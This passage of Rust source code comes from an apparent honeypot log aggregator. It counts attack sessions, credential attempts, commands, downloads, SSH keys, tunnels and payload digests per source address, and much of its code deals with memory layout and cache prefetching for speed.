    /// Keeps the [`MAX_TOP_SESSIONS`] largest entries (unordered; equal entries are
    /// identical tuples, so which copy survives does not matter).
    fn trim_top(&mut self) {
        if self.top.len() > MAX_TOP_SESSIONS {
            self.top
                .select_nth_unstable_by(MAX_TOP_SESSIONS - 1, |a, b| b.cmp(a));
            self.top.truncate(MAX_TOP_SESSIONS);
            self.top_floor = self.top.last().copied();
        }
    }

    /// Adds another summary.
    pub fn merge(&mut self, o: SessionSummary) {
        self.by_id += o.by_id;
        self.by_gap += o.by_gap;
        self.with_credentials += o.with_credentials;
        self.with_commands += o.with_commands;
        self.mirai_sequence += o.mirai_sequence;
        self.with_downloads += o.with_downloads;
        for (a, b) in self.histogram.iter_mut().zip(o.histogram) {
            *a += b;
        }
        self.durations_ms.extend(o.durations_ms);
        self.top.extend(o.top);
        self.trim_top();
    }
}

fn extend_range(first: &mut Option<Micros>, last: &mut Option<Micros>, ts: Option<Micros>) {
    if let Some(t) = ts {
        *first = Some(first.map_or(t, |f| f.min(t)));
        *last = Some(last.map_or(t, |l| l.max(t)));
    }
}

fn merge_range(
    first: &mut Option<Micros>,
    last: &mut Option<Micros>,
    of: Option<Micros>,
    ol: Option<Micros>,
) {
    extend_range(first, last, of);
    extend_range(first, last, ol);
}

/// Adds `x` to a sorted set of at most `cap` values, keeping the `cap` smallest: the
/// same set whatever the order of arrival or the split of the input between threads,
/// so multi-threaded reports are deterministic.
fn push_unique<T: Ord>(v: &mut Vec<T>, x: T, cap: usize) {
    if let Err(pos) = v.binary_search(&x)
        && pos < cap
    {
        v.insert(pos, x);
        v.truncate(cap);
    }
}

/// [`push_unique`] for an inline small vector.
fn push_unique_small<A: smallvec::Array>(v: &mut SmallVec<A>, x: A::Item, cap: usize)
where
    A::Item: Ord,
{
    if let Err(pos) = v.binary_search(&x)
        && pos < cap
    {
        v.insert(pos, x);
        v.truncate(cap);
    }
}

/// Source addresses and their states: a hash index of dense slots into one vector
/// (and, after merges, the other workers' vectors, taken whole), so ~1 M sources cost
/// one table slot (24 bytes) and one vector element each and no allocation of their
/// own. Iteration follows the index table, so its order depends only on the addresses
/// and the order they were first seen in (as a map would).
#[derive(Debug, Default)]
pub(crate) struct Sources {
    index: Table<IpAddr, u32>,
    states: Vec<SourceState>,
    /// The last address looked up and its slot (rows of one session come in runs).
    last: Option<(IpAddr, u32)>,
    /// State vectors of other workers, taken whole by [`Sources::merge`] (copying
    /// each state into `states` cost a copy and fresh memory for every source of a
    /// shard): their slots are [`MERGED_SLOTS`] on, numbered on from one vector to
    /// the next (see [`Sources::at`]).
    merged: Vec<Vec<SourceState>>,
    /// Where each of `merged` starts in that numbering.
    merged_starts: Vec<u32>,
}

/// The first slot of the state vectors [`Sources::merge`] takes whole (slots below
/// it are places in [`Sources::states`]).
const MERGED_SLOTS: u32 = 1 << 31;

impl Sources {
    /// Number of distinct sources.
    pub fn len(&self) -> usize {
        self.index.len()
    }

    /// The state of one source.
    pub fn get(&self, ip: &IpAddr) -> Option<&SourceState> {
        self.index.get(ip).and_then(|&i| self.at(i))
    }

    /// Every source with its state, in index order.
    pub fn iter(&self) -> impl Iterator<Item = (&IpAddr, &SourceState)> {
        self.index
            .iter()
            .filter_map(|(ip, &i)| self.at(i).map(|s| (ip, s)))
    }

    /// Every source with its state and its place in memory order, in index order:
    /// places number `states`, then each vector of `merged`, one after another, and
    /// are below [`Self::places`] (places of states merged into others' are unused).
    pub fn iter_placed(&self) -> impl Iterator<Item = (&IpAddr, &SourceState, usize)> {
        self.index
            .iter()
            .filter_map(|(ip, &i)| self.at(i).map(|s| (ip, s, self.place(i))))
    }

    /// Number of places of [`Self::iter_placed`].
    pub fn places(&self) -> usize {
        self.states.len() + self.merged.iter().map(Vec::len).sum::<usize>()
    }

    /// The place in memory order of `slot` (see [`Self::iter_placed`]).
    fn place(&self, slot: u32) -> usize {
        match slot.checked_sub(MERGED_SLOTS) {
            None => slot as usize,
            Some(d) => self.states.len() + d as usize,
        }
    }

    /// Which of `merged`, and where in it, slot `slot` (at least [`MERGED_SLOTS`]) is.
    fn merged_at(&self, slot: u32) -> Option<(usize, usize)> {
        let d = slot.checked_sub(MERGED_SLOTS)?;
        let k = self
            .merged_starts
            .partition_point(|&s| s <= d)
            .checked_sub(1)?;
        let start = *self.merged_starts.get(k)?;
        Some((k, (d - start) as usize))
    }

    /// The state in slot `slot`.
    fn at(&self, slot: u32) -> Option<&SourceState> {
        if slot < MERGED_SLOTS {
            return self.states.get(slot as usize);
        }
        let (k, i) = self.merged_at(slot)?;
        self.merged.get(k)?.get(i)
    }

    /// The state in slot `slot`, to change.
    fn at_mut(&mut self, slot: u32) -> Option<&mut SourceState> {
        if slot < MERGED_SLOTS {
            return self.states.get_mut(slot as usize);
        }
        let (k, i) = self.merged_at(slot)?;
        self.merged.get_mut(k)?.get_mut(i)
    }

    /// The slot of `ip`, created empty if new.
    fn slot(&mut self, ip: IpAddr) -> usize {
        if let Some((last, i)) = self.last
            && last == ip
        {
            return i as usize;
        }
        let next = self.states.len();
        let i = *self
            .index
            .entry(ip)
            .or_insert_with(|| u32::try_from(next).unwrap_or(u32::MAX)) as usize;
        if i == next {
            self.states.push(SourceState::default());
        }
        self.last = u32::try_from(i).ok().map(|slot| (ip, slot));
        i
    }

    fn state(&mut self, slot: usize) -> Option<&mut SourceState> {
        if slot < self.states.len() {
            return self.states.get_mut(slot);
        }
        self.merged_state(slot)
    }

    /// [`Self::state`] of a slot in a vector [`Self::merge`] took whole (off the
    /// path of rows, which reach merged states only when added after a merge).
    #[cold]
    #[inline(never)]
    fn merged_state(&mut self, slot: usize) -> Option<&mut SourceState> {
        self.at_mut(u32::try_from(slot).ok()?)
    }

    /// Adds another worker's sources. Its state vectors are kept whole (see
    /// `merged`), and only its index entries are added: a source both know (never,
    /// when rows are split between workers by source, as CSV rows are) has the
    /// other's state merged into its own, and that one's place stays unused.
    fn merge(&mut self, other: Sources) {
        let places = other.places();
        let place_of = |slot: u32| other.place(slot);
        // The other worker's sources are added in the order their states lie in
        // memory (one stream through them, instead of a cache miss per state in
        // index order): first each place's address, from a walk of its index.
        let mut address_of: Vec<Option<IpAddr>> = vec![None; places];
        for (ip, &i) in &other.index {
            if let Some(slot) = address_of.get_mut(place_of(i)) {
                *slot = Some(*ip);
            }
        }
        // Sharded workers hold disjoint sources: room for all of them at once.
        self.index.reserve(other.index.len());
        let Sources { states, merged, .. } = other;
        let mut next = self.merged_starts.last().map_or(0, |&s| s as usize)
            + self.merged.last().map_or(0, Vec::len);
        let mut addresses = address_of.into_iter();
        for mut part in std::iter::once(states).chain(merged) {
            if part.is_empty() {
                continue;
            }
            let start = next;
            for (i, ip) in addresses.by_ref().take(part.len()).enumerate() {
                let Some(ip) = ip else {
                    continue;
                };
                let slot = u32::try_from(start + i)
                    .ok()
                    .and_then(|d| d.checked_add(MERGED_SLOTS))
                    .unwrap_or(u32::MAX);
                match self.index.entry(ip) {
                    table::Entry::Occupied(known) => {
                        let known = known.get().1;
                        if let (Some(mine), Some(theirs)) = (self.at_mut(known), part.get_mut(i)) {
                            mine.merge(std::mem::take(theirs));
                        }
                    }
                    table::Entry::Vacant(free, ip) => {
                        free.insert((ip, slot));
                    }
                }
            }
            next = start + part.len();
            self.merged_starts
                .push(u32::try_from(start).unwrap_or(u32::MAX));
            self.merged.push(part);
        }
    }
}

fn session_word_flag(word: &str) -> u8 {
    match word.trim() {
        "enable" => sflag::ENABLE,
        "system" => sflag::SYSTEM,
        "shell" => sflag::SHELL,
        "sh" => sflag::SH,
        _ => 0,
    }
}

/// Session gap (seconds) for logs without session ids.
pub const DEFAULT_GAP_SECS: i64 = 300;

impl Aggregator {
    /// An empty aggregator; logs without session ids split sessions at `gap_secs` of silence.
    pub fn new(gap_secs: i64) -> Self {
        Self {
            gap_secs,
            ..Self::default()
        }
    }

    /// Keys sessions by id *and* source address: a session is one connection from one
    /// address, so rows that reuse an id from another address are another session.
    /// Used for CSV logs, whose rows are split between workers by source address: a
    /// session id shared by two addresses would otherwise be counted once or twice
    /// depending on the number of threads.
    pub fn sessions_per_source(mut self) -> Self {
        self.session_per_source = true;
        self
    }

    /// Makes room for about `sources` source states and `pairs` credential pairs up
    /// front. The states vector would otherwise be copied to fresh memory each time
    /// it doubles (the copies and the first touches of that memory were 3 % of a
    /// run), and each table rehashed into one of twice the size; room not used is
    /// address space, not memory, until written.
    pub fn expecting(mut self, sources: usize, pairs: usize) -> Self {
        self.sources.index.reserve(sources);
        self.sources.states.reserve(sources);
        self.pairs.reserve(pairs);
        self
    }

    /// True if this aggregator's source index and pair table can take `other`'s
    /// entries without growing.
    fn has_room_for(&self, other: &Aggregator) -> bool {
        self.sources.index.room() >= other.sources.index.len()
            && self.pairs.room() >= other.pairs.len()
    }

    /// Starts a block of time-ordered rows.
    pub fn begin_block(&mut self) {
        self.block_min = None;
        self.block_max = None;
        self.block_new_sessions.clear();
    }

    /// Ends a block: sessions that started in it and lie more than
    /// [`SESSION_HORIZON_SECS`] inside its time span are complete (rows are written in
    /// time order and sessions are shorter than the horizon), so they are folded into
    /// counters and forgotten. Sessions near the block's edges wait for the final merge.
    pub fn end_block(&mut self) {
        let (Some(lo), Some(hi)) = (self.block_min, self.block_max) else {
            return;
        };
        let horizon = SESSION_HORIZON_SECS * 1_000_000;
        let (lo, hi) = (lo.saturating_add(horizon), hi.saturating_sub(horizon));
        self.fold_new_sessions(|s| {
            s.first.is_some_and(|f| f >= lo) && s.last.is_some_and(|l| l <= hi)
        });
    }

    /// Folds the sessions that started in this block and are `complete` into
    /// counters, and forgets them.
    fn fold_new_sessions(&mut self, complete: impl Fn(&SessionState) -> bool) {
        for key in std::mem::take(&mut self.block_new_sessions) {
            if self.sessions.get(&key).is_some_and(&complete)
                && let Some(state) = self.sessions.remove(&key)
            {
                self.done_sessions.add(&state, false);
                // Its rows are all here: its fetches are matched now, so that what
                // is held stays bounded like the open sessions.
                if let Some(held) = self.session_fetches.remove(&key) {
                    for r in held.settle() {
                        self.count_recorded(r);
                    }
                }
            }
        }
    }

    /// Ends a unit of a `trawl.db` read (see `input::sqlite`): its attempts and the
    /// session rows written in the same stretch of time, `window` (`None`: the
    /// store's first or last unit, open on that side). A session that started in the
    /// unit is complete, and folded into counters, when
    /// - its session row was read (its duration is known) and the session, from its
    ///   start (end less duration) to its end, lies more than [`STORE_SLACK_SECS`]
    ///   inside the window: its attempts were written between its start and its end,
    ///   so every one of them is in this unit; or
    /// - the store has no session rows at all (`session_rows` false) and the session
    ///   lies more than [`SESSION_HORIZON_SECS`] inside the window, as in
    ///   [`Self::end_block`].
    ///
    /// Others wait for the final merge, where they meet their rows of other units.
    pub fn end_store_unit(&mut self, window: (Option<Micros>, Option<Micros>), session_rows: bool) {
        let (Some(min), Some(max)) = (self.block_min, self.block_max) else {
            return;
        };
        let lo = window.0.map_or(min, |from| from.max(min));
        let hi = window.1.map_or(max, |to| to.min(max));
        let slack = STORE_SLACK_SECS * 1_000_000;
        let horizon = SESSION_HORIZON_SECS * 1_000_000;
        let complete = |s: &SessionState| match (s.first, s.last, s.duration_ms) {
            (Some(first), Some(last), Some(ms)) => {
                let start = last.saturating_sub(
                    i64::try_from(ms)
                        .unwrap_or(i64::MAX / 2)
                        .saturating_mul(1_000),
                );
                first.min(start) >= lo.saturating_add(slack) && last <= hi.saturating_sub(slack)
            }
            (Some(first), Some(last), None) => {
                !session_rows
                    && first >= lo.saturating_add(horizon)
                    && last <= hi.saturating_sub(horizon)
            }
            _ => false,
        };
        self.fold_new_sessions(complete);
    }

    /// Ends a block of a worker that sees its rows in file order (every row of its
    /// sources, see [`crate::input::csvlog::Shard`]): a session whose last row lies
    /// more than [`SESSION_HORIZON_SECS`] before the newest row of the block is
    /// complete (rows are written in time order and sessions are shorter than the
    /// horizon), wherever it started, so it is folded into counters and forgotten.
    pub fn end_block_in_order(&mut self) {
        self.block_new_sessions.clear();
        let Some(hi) = self.block_max else {
            return;
        };
        let cut = hi.saturating_sub(SESSION_HORIZON_SECS * 1_000_000);
        let done = &mut self.done_sessions;
        self.sessions.retain(|_, s| {
            let finished = s.last.is_some_and(|l| l <= cut);
            if finished {
                done.add(s, false);
            }
            !finished
        });
    }

    /// Records a row that could not be read.
    pub fn bad_row(&mut self, file_index: usize, file: &str, line: u64, reason: impl Into<String>) {
        self.bad_total += 1;
        self.file_counts(file_index).bad += 1;
        if self.bad_shown.len() < MAX_BAD_SHOWN {
            self.bad_shown.push(BadRow {
                file: file.to_string(),
                line,
                reason: reason.into(),
            });
        }
    }

    /// Adds events in order, after looking up the map entries they will touch: the
    /// lookups of different rows do not depend on each other, so the processor
    /// overlaps their cache misses, and the ingest that follows finds the entries in
    /// the cache. (On the 10 M-row benchmark log the pair and source tables are far
    /// larger than the cache, and one row at a time their misses came in series.)
    ///
    /// What the look-ahead finds is kept ([`Warmed`]): each row's credential pair is
    /// counted there, and its source slot and session key are handed on, so no table
    /// is searched twice for one row.
    pub fn ingest_batch(&mut self, file_index: usize, events: &[Event<'_>], filters: &Filters) {
        for part in events.chunks(WARM_ROWS) {
            let mut warmed = [Warmed::default(); WARM_ROWS];
            std::hint::black_box(self.warm(part, filters, &mut warmed));
            for (ev, w) in part.iter().zip(warmed) {
                self.ingest_keyed(file_index, ev, filters, w);
            }
        }
    }

    /// The hashes and keys [`Self::warm`] looks up, for each row of `part`: rows
    /// that repeat the previous row's address or session need no lookup of it.
    fn probes(&self, part: &[Event<'_>]) -> [Probe; WARM_ROWS] {
        let mut probes = [Probe::default(); WARM_ROWS];
        let mut last_src = None;
        let mut last_session: Option<(&str, Option<IpAddr>, u64)> = None;
        for (ev, p) in part.iter().zip(probes.iter_mut()) {
            if let EventKind::Auth {
                username, password, ..
            } = &ev.kind
            {
                p.pair = Some(pair_hash(bounded(username), bounded(password)));
            }
            if let Some(ip) = ev.src
                && last_src != Some(ip)
            {
                last_src = Some(ip);
                p.src = Some(table::hash_of(&ip));
            }
            if let Some(id) = ev.session.as_deref().filter(|id| !id.is_empty()) {
                let k = match last_session {
                    Some((last, src, k)) if last == id && src == ev.src => k,
                    _ => {
                        let k = self.session_key(id, ev.src);
                        last_session = Some((id, ev.src, k));
                        p.new_session = Some(k);
                        k
                    }
                };
                p.session = Some(k);
            }
        }
        probes
    }

    /// Reads the pair, source and session entries of `events` (see
    /// [`Self::ingest_batch`]) in stages, so that each stage's reads are independent
    /// of one another: every row's hashes ([`Self::probes`]), then prefetches of the
    /// pair and source-index slots (see [`crate::table`]), then the lookups, then
    /// prefetches of every cache line of the source states the index points to,
    /// then of what the row will search through those states: a credential row
    /// its credential list, a command row the box of its command lists and then
    /// its command lines. (Prefetching sessions too measured no gain: a session's
    /// rows come in runs, so its state is mostly in cache already.)
    ///
    /// What is found goes to `warmed`: the credential pair of an accepted login row
    /// is counted here (and not again by [`Self::ingest_keyed`]), a known source's
    /// slot and each row's session key are handed on.
    fn warm(
        &mut self,
        part: &[Event<'_>],
        filters: &Filters,
        warmed: &mut [Warmed; WARM_ROWS],
    ) -> u64 {
        let mut sum = 0u64;
        {
            // Rows of one session mostly come in runs (more than half of a Heralding
            // log's rows follow a row of their own session in their shard): a row
            // with the previous row's address or session reuses what it found.
            let keep_all = filters.keeps_all();
            let probes = self.probes(part);
            // The table slots of every row are asked for first (see
            // [`crate::table`]), in a loop of nothing but probes, which keeps more
            // of them in flight at once.
            for p in &probes[..part.len()] {
                if let Some(hash) = p.pair {
                    self.pairs.prefetch(hash);
                }
                if let Some(hash) = p.src {
                    self.sources.index.prefetch(hash);
                }
            }
            let mut last_slot = None;
            for ((ev, w), p) in part.iter().zip(warmed.iter_mut()).zip(probes) {
                let accepted = keep_all || filters.accepts(ev);
                w.accepted = Some(accepted);
                if let EventKind::Auth {
                    username, password, ..
                } = &ev.kind
                    && let Some(hash) = p.pair
                    && accepted
                {
                    let stats = self.count_pair_hashed(bounded(username), bounded(password), hash);
                    sum = sum.wrapping_add(stats.count);
                    w.pair = Some(stats);
                }
                if let Some(ip) = ev.src {
                    if let Some(hash) = p.src {
                        last_slot = self.sources.index.get_hashed(hash, &ip).copied();
                    }
                    w.slot = last_slot;
                }
                if let Some(k) = p.new_session
                    && let Some(s) = self.sessions.get(&k)
                {
                    sum = sum.wrapping_add(u64::from(s.attempts));
                }
                w.session_key = p.session;
            }
            let states = || {
                warmed.iter().filter_map(|w| {
                    let state = self.sources.states.get(w.slot? as usize)?;
                    Some((state, w.pair.is_some_and(|p| p.is_command)))
                })
            };
            for (state, _) in states() {
                // A state spans three or four cache lines, all of which the row's
                // ingest reads or writes (its counters, protocols, credential list).
                table::prefetch_span(state);
            }
            for (state, command) in states() {
                // A command row searches the source's command lines (behind one
                // pointer, then another), a credential row its credential list:
                // every line of it may be read (a list is at most 1 KiB).
                if command {
                    if let Some(lists) = state.cmds.as_deref() {
                        table::prefetch_read(lists);
                    }
                } else if state.creds.spilled() {
                    table::prefetch_slice(&state.creds);
                }
            }
            for (state, command) in states() {
                if let Some(lists) = state.cmds.as_deref().filter(|_| command) {
                    table::prefetch_slice(&lists.lines);
                }
            }
        }
        sum
    }

    /// Adds one event (after the filters).
    pub fn ingest(&mut self, file_index: usize, ev: &Event<'_>, filters: &Filters) {
        self.ingest_keyed(file_index, ev, filters, Warmed::default());
    }

    /// [`Self::ingest`] with what [`Self::warm`] already found for the event.
    fn ingest_keyed(
        &mut self,
        file_index: usize,
        ev: &Event<'_>,
        filters: &Filters,
        warmed: Warmed,
    ) {
        let gap_secs = self.gap_secs;
        let key = warmed.session_key;
        let accepted = warmed.accepted.unwrap_or_else(|| filters.accepts(ev));
        if self.count_no_event(ev, accepted) || self.count_ioc(ev, accepted) {
            return;
        }
        if !accepted {
            self.filtered_out += 1;
            return;
        }
        self.events += 1;
        self.file_counts(file_index).events += 1;
        extend_range(&mut self.first, &mut self.last, ev.ts);
        extend_range(&mut self.block_min, &mut self.block_max, ev.ts);
        match &ev.kind {
            EventKind::Auth {
                username,
                password,
                success,
            } => self.auth(ev, (username, password), *success, warmed),
            EventKind::KeyOffer { username, print } => {
                self.key_offers += 1;
                let slot = self.login_without_pair(ev, warmed);
                if !print.is_empty() {
                    self.count_key(ev, print, KeyUse::Offered(username));
                    if let Some(state) = slot.and_then(|i| self.sources.state(i)) {
                        let id = id_of(feature::KEY, &[bounded(print)]);
                        push_unique(&mut state.cmds_mut().features, id, MAX_SOURCE_FEATURES);
                    }
                }
            }
            EventKind::HashedAuth {
                username,
                mechanism,
            } => {
                self.hashed_attempts += 1;
                self.login_without_pair(ev, warmed);
                let login = (
                    Box::<str>::from(bounded(mechanism)),
                    Box::<str>::from(bounded(username)),
                );
                *self.hashed_logins.entry(login).or_default() += 1;
            }
            EventKind::Command { line } => {
                self.shell_commands += 1;
                let proto = self.protocol_of(ev);
                let slot = self.touch_source(ev, proto, warmed.slot);
                self.timeline_add(ev.ts, 1);
                let i = self.command_slot(line);
                let flags = self.command_in_slot(ev, slot, (i, line));
                let key = self.touch_session(ev, gap_secs, (0, flags), key);
                if flags & sflag::DOWNLOAD != 0
                    && let Some(key) = key
                {
                    self.commanded_fetches(key, i);
                }
            }
            EventKind::Download { url } => self.recorded_download(ev, url, gap_secs, warmed),
            EventKind::Connect => {
                self.connects += 1;
                let proto = self.protocol_of(ev);
                self.touch_source(ev, proto, warmed.slot);
                self.touch_session(ev, gap_secs, (0, 0), key);
            }
            EventKind::ClientVersion { .. }
            | EventKind::ClientRequest { .. }
            | EventKind::KeyLoginSucceeded => {}
            EventKind::PayloadHash { .. }
            | EventKind::Tunnel { .. }
            | EventKind::Hassh { .. }
            | EventKind::TtyInput { .. }
            | EventKind::SourceName { .. }
            | EventKind::UrlVerdict { .. }
            | EventKind::VirusTotal { .. } => {}
            EventKind::SessionEnd {
                duration_ms,
                attempts,
            } => {
                let key = self.touch_session(ev, gap_secs, (0, 0), key);
                if let Some(state) = key.and_then(|k| self.sessions.get_mut(&k)) {
                    state.duration_ms = state.duration_ms.max(*duration_ms);
                    state.declared_attempts = state.declared_attempts.max(*attempts);
                }
            }
        }
    }

    fn count_client_version(&mut self, ev: &Event<'_>, version: &str) {
        if let Some(version) = count_text(&mut self.client_versions, version, MAX_CLIENT_VERSION) {
            self.source_client(ev, feature::CLIENT, version);
        }
    }

    /// Adds client `text` (a version or a HASSH, by `kind`) to the event's source.
    /// The record is no event of the source (its counts and first/last seen stay as
    /// they are), but it makes the source's entry if there is none yet: the worker
    /// that reads a source's client records need not be the one that reads its logins.
    fn source_client(&mut self, ev: &Event<'_>, kind: u8, text: &str) {
        let Some(src) = ev.src else {
            return;
        };
        let id = id_of(kind, &[text]);
        let slot = self.sources.slot(src);
        if let Some(state) = self.sources.state(slot) {
            state.add_client(kind, id);
        }
    }

    /// Counts a payload digest, tunnel record or HASSH (if the filters accept it)
    /// and returns true; false for other events. These records describe a session
    /// that other records count (its connect, logins, downloads), so, like client
    /// versions, they are not events of their own: they add to their tables only.
    fn count_ioc(&mut self, ev: &Event<'_>, accepted: bool) -> bool {
        let is_ioc = matches!(
            ev.kind,
            EventKind::PayloadHash { .. }
                | EventKind::Tunnel { .. }
                | EventKind::Hassh { .. }
                | EventKind::TtyInput { .. }
        );
        if !is_ioc || !accepted {
            return is_ioc;
        }
        match &ev.kind {
            EventKind::PayloadHash {
                sha256,
                url,
                upload,
            } => self.count_payload_hash(ev, sha256, url.as_deref(), upload.as_deref()),
            EventKind::Tunnel { host, port, data } => {
                self.count_tunnel(ev, (host, *port), data.as_deref());
            }
            EventKind::Hassh { hassh, algorithms } => {
                self.count_hassh(ev, hassh, algorithms.as_deref());
            }
            EventKind::TtyInput { sha256 } => self.count_tty_input(ev, sha256),
            _ => {}
        }
        true
    }

    /// Counts one record of a payload; a digest that is not 64 hex digits counts nothing.
    fn count_payload_hash(
        &mut self,
        ev: &Event<'_>,
        sha256: &str,
        url: Option<&str>,
        upload: Option<&str>,
    ) {
        let Some(sha256) = ioc::sha256_hex(sha256) else {
            return;
        };
        let state = self.payload_hashes.entry(sha256.into()).or_default();
        state.add(ev.ts, ev.src);
        let clipped = |t: &str| Box::<str>::from(ioc::clip_text(t, ioc::MAX_IOC_TEXT));
        if let Some(url) = url.map(clipped).filter(|u| !u.is_empty()) {
            push_unique(&mut state.urls, url, MAX_HASH_ORIGINS);
        }
        if let Some(name) = upload.map(clipped).filter(|u| !u.is_empty()) {
            push_unique(&mut state.uploads, name, MAX_HASH_ORIGINS);
        }
    }

    /// Counts a session's typed-input digest; one that is not 64 hex digits counts
    /// nothing.
    fn count_tty_input(&mut self, ev: &Event<'_>, sha256: &str) {
        let Some(sha256) = ioc::sha256_hex(sha256) else {
            return;
        };
        self.tty_inputs
            .entry(sha256.into())
            .or_default()
            .add(ev.ts, ev.src);
    }

    /// Counts a tunnel request (`data` is `None`) or data record under its destination.
    fn count_tunnel(&mut self, ev: &Event<'_>, (host, port): (&str, u16), data: Option<&str>) {
        let Some(host) = ioc::tunnel_host(host) else {
            return;
        };
        let state = self.tunnels.entry((host.into(), port)).or_default();
        extend_range(&mut state.first, &mut state.last, ev.ts);
        if let Some(src) = ev.src {
            state.sources.insert(src);
        }
        match data {
            None => state.requests += 1,
            Some(data) => {
                state.data += 1;
                if let Some(asked) = ioc::http_request_host(data) {
                    push_unique(&mut state.http_hosts, asked.into(), MAX_TUNNEL_HOSTS);
                }
            }
        }
    }

    /// A login attempt with no credential pair (a key offer, a hashed password): an
    /// event of its source, an attempt of its session, a point of the timeline's
    /// credential column.
    fn login_without_pair(&mut self, ev: &Event<'_>, warmed: Warmed) -> Option<usize> {
        let proto = self.protocol_of(ev);
        let slot = self.touch_source(ev, proto, warmed.slot);
        if let Some(state) = slot.and_then(|i| self.sources.state(i)) {
            state.markers |= marker::LOGIN_WITHOUT_PASSWORD;
        }
        self.timeline_add(ev.ts, 0);
        self.touch_session(ev, self.gap_secs, (1, 0), warmed.session_key);
        slot
    }

    /// Counts one use of an SSH public key (offered at a login, or planted by a
    /// command line with its comment).
    fn count_key(&mut self, ev: &Event<'_>, print: &str, how: KeyUse<'_>) {
        let print = bounded(print);
        let state = match self.ssh_keys.get_mut(print) {
            Some(state) => state,
            None => self.ssh_keys.entry(print.into()).or_default(),
        };
        extend_range(&mut state.first, &mut state.last, ev.ts);
        if let Some(src) = ev.src {
            state.sources.insert(src);
        }
        match how {
            KeyUse::Offered(user) => {
                state.offered += 1;
                state.add_user(user, 1);
            }
            KeyUse::Planted(comment) => {
                state.planted += 1;
                if let Some(c) = comment {
                    push_unique(&mut state.comments, c.into(), MAX_KEY_COMMENTS);
                }
            }
        }
    }

    /// Counts a record that describes a session or a thing other records count
    /// (a client's version or requests, an accepted key login) and returns true;
    /// false for other events. Enrichment (reverse DNS names, VirusTotal verdicts)
    /// is about an address, a file or a URL, not the attack: no filter applies to it.
    fn count_no_event(&mut self, ev: &Event<'_>, accepted: bool) -> bool {
        match &ev.kind {
            EventKind::ClientVersion { version } if accepted => {
                self.count_client_version(ev, version);
            }
            EventKind::ClientRequest { what, text } if accepted => {
                let map = match what {
                    ClientRequest::Env => &mut self.client_env,
                    ClientRequest::TerminalSize => &mut self.terminal_sizes,
                };
                count_text(map, text, MAX_CLIENT_VERSION);
            }
            EventKind::KeyLoginSucceeded if accepted => self.logins_succeeded += 1,
            EventKind::ClientVersion { .. }
            | EventKind::ClientRequest { .. }
            | EventKind::KeyLoginSucceeded => {}
            EventKind::SourceName { ptr } => {
                if let Some(src) = ev.src {
                    self.note_source_name(src, ptr);
                }
            }
            EventKind::UrlVerdict { url, result } => {
                if let Some(d) = command::parse_url(bounded(url)) {
                    let verdict = Verdict {
                        ts: ev.ts,
                        result: *result,
                    };
                    keep_latest(&mut self.url_verdicts, fetch::fetch_key(&d), verdict);
                }
            }
            EventKind::VirusTotal { sha256, result } => self.note_verdict(ev.ts, sha256, *result),
            _ => return false,
        }
        true
    }

    /// Keeps `ptr` as the name of `src` if it is the smallest logged for it.
    fn note_source_name(&mut self, src: IpAddr, ptr: &str) {
        let ptr = ioc::clip_text(ptr, MAX_CLIENT_VERSION);
        let ptr = ptr.strip_suffix('.').unwrap_or(ptr).to_ascii_lowercase();
        if ptr.is_empty() {
            return;
        }
        match self.source_names.get_mut(&src) {
            Some(kept) if **kept <= *ptr => {}
            Some(kept) => *kept = ptr.into(),
            None => {
                self.source_names.insert(src, ptr.into());
            }
        }
    }

    /// Keeps a VirusTotal verdict if it is the latest for its file; a digest that is
    /// not 64 hex digits is ignored.
    fn note_verdict(&mut self, ts: Option<Micros>, sha256: &str, result: Option<(u32, u32)>) {
        if let Some(sha256) = ioc::sha256_hex(sha256) {
            keep_latest(&mut self.virustotal, sha256.into(), Verdict { ts, result });
        }
    }

    /// Counts a session's HASSH; one that is not 32 hex digits counts nothing.
    fn count_hassh(&mut self, ev: &Event<'_>, hassh: &str, algorithms: Option<&str>) {
        if let Some(hassh) = ioc::hassh_hex(hassh) {
            self.source_client(ev, feature::HASSH, &hassh);
            if let Some(algorithms) = algorithms {
                let algorithms = ioc::clip_text(algorithms, MAX_HASSH_ALGORITHMS);
                keep_smallest(&mut self.hassh_algorithms, &hassh, algorithms);
            }
            *self.hassh.entry(hassh.into()).or_default() += 1;
        }
    }

    fn file_counts(&mut self, file_index: usize) -> &mut FileCounts {
        if self.files.len() <= file_index {
            self.files.resize(file_index + 1, FileCounts::default());
        }
        let last = self.files.len() - 1;
        let i = file_index.min(last);
        &mut self.files[i]
    }

    /// The index of `protocol` in the protocol table, added if new and there is
    /// room (a log naming more protocols than that uses the maps for the rest).
    fn protocol_entry(&mut self, protocol: &str) -> Option<usize> {
        let prefix = name_prefix(protocol);
        // Names of at most 8 bytes are equal when their lengths and prefixes are.
        let is = |e: &ProtocolEntry| {
            e.prefix == prefix
                && e.name.len() == protocol.len()
                && (protocol.len() <= 8 || *e.name == *protocol)
        };
        if self.protocol_table.get(self.last_protocol).is_some_and(is) {
            return Some(self.last_protocol);
        }
        let index = match self.protocol_table.iter().position(is) {
            Some(i) => i,
            None if self.protocol_table.len() < MAX_PROTOCOL_TABLE => {
                self.protocol_table.push(ProtocolEntry {
                    name: protocol.into(),
                    prefix,
                    id: id_of(feature::PROTO, &[protocol]),
                    pending: 0,
                });
                self.protocol_table.len() - 1
            }
            None => return None,
        };
        self.last_protocol = index;
        Some(index)
    }

    fn protocol_id(&mut self, protocol: &str) -> u64 {
        match self.protocol_entry(protocol) {
            Some(i) => self.protocol_table.get(i).map_or(0, |e| e.id),
            None => id_of(feature::PROTO, &[protocol]),
        }
    }

    /// Counts one attempt of `protocol`; returns its id.
    fn count_protocol(&mut self, protocol: &str) -> u64 {
        if let Some(entry) = self
            .protocol_entry(protocol)
            .and_then(|i| self.protocol_table.get_mut(i))
        {
            entry.pending += 1;
            return entry.id;
        }
        if let Some(c) = self.protocols.get_mut(protocol) {
            *c += 1;
        } else {
            self.protocols.insert(protocol.into(), 1);
        }
        id_of(feature::PROTO, &[protocol])
    }

    fn timeline_add(&mut self, ts: Option<Micros>, column: usize) {
        let Some(t) = ts else {
            return;
        };
        let minute = t.div_euclid(60_000_000);
        let run = match &mut self.minute_run {
            Some((m, counts)) if *m == minute => counts,
            _ => {
                self.flush_minute();
                &mut self.minute_run.get_or_insert((minute, [0; 2])).1
            }
        };
        if let Some(c) = run.get_mut(column) {
            *c += 1;
        }
    }

    fn flush_minute(&mut self) {
        if let Some((minute, counts)) = self.minute_run.take() {
            let slot = self.timeline.entry(minute).or_default();
            slot[0] += counts[0];
            slot[1] += counts[1];
        }
    }

    /// Moves the counts held aside for speed (the current minute, the per-port
    /// array, the protocol table) into the maps the report reads; done by [`Self::merge`] on both sides
    /// and at the end of [`crate::aggregate`].
